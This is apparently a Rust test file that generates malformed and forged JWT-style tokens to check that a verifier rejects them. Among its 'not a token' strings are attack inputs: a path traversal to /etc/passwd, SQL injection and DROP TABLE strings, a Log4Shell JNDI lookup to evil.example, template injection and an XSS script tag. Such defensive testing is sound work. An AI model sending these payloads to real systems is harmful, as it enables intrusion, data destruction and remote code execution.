//! Texts that are not three parts with two dots between them, and other formats of signed data.

use serde_json::json;

use super::{CLAIMS, Forgery, HEADER, KEY, encode, forgery, hmac_sha512, message, signed};

/// What is not a token at all.
const TEXTS: [&str; 46] = [
    "",
    ".",
    "..",
    "...",
    "....",
    ".....",
    "a",
    "a.b",
    "a.b.c",
    "a.b.c.d",
    "a.b.c.d.e",
    "null",
    "undefined",
    "true",
    "false",
    "0",
    "-1",
    "NaN",
    "{}",
    "[]",
    "\"\"",
    "[object Object]",
    "{}.{}.",
    "e30.e30.",
    "e30.e30.e30",
    "bnVsbA.bnVsbA.bnVsbA",
    "W10.W10.W10",
    "AA.AA.AA",
    "../../../etc/passwd",
    "' OR '1'='1",
    "1; DROP TABLE accounts; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "%00",
    "%2e%2e",
    "*",
    "admin",
    "user",
    "1",
    "v2.local.QAxIpVe-ECVNI1z4xQbm_qQYomyT3h8FtV8bxkz8pBJWkT8f7HtlOpbroPDEZUKop_vaglyp76CzYy375cHmKCW8e1CCkV0Lflu4GTDyXMqQdpZMM1E6OaoQW27gaRSvWBrR3IgbFIa0AkuUFw.UGFyYWdvbiBJbml0aWF0aXZlIEVudGVycHJpc2Vz",
    "v4.public.eyJ1c2VyX2lkIjoxfQ.AAAA",
    "Fe26.2**AAAA*AAAA*AAAA**AAAA*AAAA",
    "AgEIbG9jYWxob3N0AgZsZW1vbgAABiAAAA",
    "gAAAAABkAAAA",
    "PHNhbWw6QXNzZXJ0aW9uLz4",
];

/// What else could separate the parts.
const SEPARATORS: [&str; 16] = [
    "", ",", ";", ":", "/", "|", "-", "_", "~", "=", " ", "..", "%2E", "\u{b7}", "\u{ff0e}",
    "\u{3002}",
];

/// What could stand around a token.
const AROUND: [(&str, &str); 22] = [
    ("", "."),
    ("", ".."),
    ("", ".x"),
    ("", ".e30"),
    (".", ""),
    ("x.", ""),
    ("..", ""),
    ("\"", "\""),
    ("'", "'"),
    ("<", ">"),
    ("[", "]"),
    ("{", "}"),
    ("(", ")"),
    ("Bearer ", ""),
    ("bearer:", ""),
    ("JWT ", ""),
    ("token=", ""),
    ("access_token=", ""),
    ("", ", realm=lemon"),
    ("", ";"),
    ("", "#"),
    ("b64token:", ""),
];

fn parts() -> [String; 3] {
    let message = message(HEADER, CLAIMS);
    let tag = encode(hmac_sha512(&KEY, message.as_bytes()));
    [encode(HEADER), encode(CLAIMS), tag]
}

/// The parts of a good token, more or fewer of them, or in another order.
fn arranged() -> Vec<Forgery> {
    let [header, claims, tag] = &parts();
    let arrangements: [&[&str]; 23] = [
        &[header],
        &[claims],
        &[tag],
        &[header, claims],
        &[claims, tag],
        &[header, tag],
        &["", claims, tag],
        &[header, "", tag],
        &["", "", tag],
        &["", claims, ""],
        &[header, "", ""],
        &[header, tag, claims],
        &[claims, header, tag],
        &[claims, tag, header],
        &[tag, header, claims],
        &[tag, claims, header],
        &[header, header, tag],
        &[claims, claims, tag],
        &[header, claims, claims, tag],
        &[header, header, claims, tag],
        &[header, claims, tag, tag],
        &[header, claims, "", tag],
        &[header, "", claims, tag],
    ];
    arrangements
        .iter()
        .map(|parts| forgery(format!("parts: {parts:?}"), parts.join(".")))
        .collect()
}

fn around() -> Vec<Forgery> {
    let good = signed(HEADER, CLAIMS, &KEY);
    let separated = SEPARATORS
        .iter()
        .map(|separator| good.replace('.', separator));
    let wrapped = AROUND
        .iter()
        .map(|(before, after)| format!("{before}{good}{after}"));
    let repeated = [" ", ",", ".", ", Bearer "].map(|between| format!("{good}{between}{good}"));
    separated
        .chain(wrapped)
        .chain(repeated)
        .map(|token| forgery(format!("shape: {token}"), token))
        .collect()
}

/// RFC 7515, section 7.2, and the other formats of JOSE.
fn other_serializations() -> Vec<Forgery> {
    let [header, claims, tag] = &parts();
    let good = signed(HEADER, CLAIMS, &KEY);
    let unprotected = json!({ "alg": "HS512" });
    let one = json!({ "protected": header, "signature": tag });
    let documents = [
        json!({ "protected": header, "payload": claims, "signature": tag }),
        json!({ "header": unprotected, "payload": claims, "signature": tag }),
        json!({ "header": unprotected, "protected": header, "payload": claims, "signature": tag }),
        json!({ "payload": claims, "signatures": [one] }),
        json!({ "payload": claims, "signatures": [one, one] }),
        json!({ "payload": claims, "signatures": [] }),
        json!({ "payload": claims, "signatures": [{ "header": unprotected, "signature": tag }] }),
        json!({ "protected": "", "payload": claims, "signature": tag }),
        json!({ "protected": header, "payload": claims }),
        json!({ "token": good }),
        json!({ "access_token": good }),
        json!([header, claims, tag]),
    ];
    let documents = documents.map(|document| document.to_string());
    let encoded = documents.clone().map(encode);
    let dir = encode(r#"{"alg":"dir","enc":"A256CBC-HS512"}"#);
    let kept = encode(r#"{"alg":"HS512","enc":"A256GCM"}"#);
    let encrypted = [
        format!("{dir}..AAAAAAAAAAAAAAAAAAAAAA.{claims}.{tag}"),
        format!("{dir}..AAAAAAAAAAAAAAAA.{claims}.AAAAAAAAAAAAAAAAAAAAAA"),
        format!("{kept}.{claims}.AAAA.{claims}.{tag}"),
        format!("{header}.{claims}.{tag}.{claims}.{tag}"),
        // A selective disclosure, with nothing disclosed and with one claim.
        format!("{good}~"),
        format!("{good}~{}~", encode(r#"["salt","user_id",1]"#)),
    ];
    documents
        .into_iter()
        .chain(encoded)
        .chain(encrypted)
        .map(|token| forgery(format!("format: {token}"), token))
        .collect()
}

/// A token in a token: only one layer is read.
fn nested() -> Vec<Forgery> {
    let good = signed(HEADER, CLAIMS, &KEY);
    let payloads = [
        good.clone(),
        json!(good).to_string(),
        json!([good]).to_string(),
        json!({ "jwt": good }).to_string(),
        message(HEADER, CLAIMS),
    ];
    let headers = [HEADER, r#"{"alg":"HS512","typ":"JWT","cty":"JWT"}"#];
    headers
        .iter()
        .flat_map(|header| {
            payloads.iter().map(move |payload| {
                forgery(
                    format!("{header} with {payload}"),
                    signed(header, payload, &KEY),
                )
            })
        })
        .collect()
}

/// As long as HTTP lets them be.
fn huge() -> Vec<Forgery> {
    let part = "A".repeat(20_000);
    let [header, claims, tag] = &parts();
    let tokens = [
        part.clone(),
        format!("{part}.{part}.{part}"),
        ".".repeat(30_000),
        format!("{header}.{claims}.{tag}").repeat(100),
        format!("{header}.{part}.{tag}"),
        format!("{part}.{claims}.{tag}"),
        "=".repeat(30_000),
    ];
    tokens
        .into_iter()
        .map(|token| forgery(format!("{} characters", token.len()), token))
        .collect()
}

pub(super) fn forgeries() -> Vec<Forgery> {
    let texts = TEXTS.map(|text| forgery(format!("text: {text}"), text));
    [
        texts.to_vec(),
        arranged(),
        around(),
        other_serializations(),
        nested(),
        huge(),
    ]
    .concat()
}
